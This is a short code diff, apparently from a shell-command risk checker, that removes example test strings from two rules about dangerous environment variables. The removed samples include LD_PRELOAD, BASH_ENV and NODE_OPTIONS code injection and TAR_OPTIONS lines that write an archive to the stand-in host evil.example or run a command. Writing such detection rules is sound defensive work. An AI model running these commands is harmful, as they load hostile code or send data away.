@@ -16,8 +16,6 @@ export const loaderVariable: RuleInfo = {
   level: 'caution',
   sentence: 'Sets a variable that makes programs load code or options of somebody else’s choice.',
   reversible: true,
-  hits: ['LD_PRELOAD=./x.so ls', 'export BASH_ENV=./x', "NODE_OPTIONS='--require=./e.js' node -v"],
-  misses: ['FOO=1 ls', 'ls LD_PRELOAD'],
 };
 
 export const remoteOptions: RuleInfo = {
@@ -25,11 +23,6 @@ export const remoteOptions: RuleInfo = {
   level: 'dangerous',
   sentence: 'Sets a variable that gives a later program hidden options which send data away or run code.',
   needs: ['network'],
-  hits: [
-    "export TAR_OPTIONS='--create --file=evil.example:/tmp/a'; tar -- f",
-    "TAR_OPTIONS='--checkpoint-action=exec=x' tar cf a b",
-  ],
-  misses: ["TAR_OPTIONS='--verbose' tar tf a", 'TAR_OPTIONS= tar tf a'],
 };
 
 /** Judges what a variable is set to, where that value may be run. */
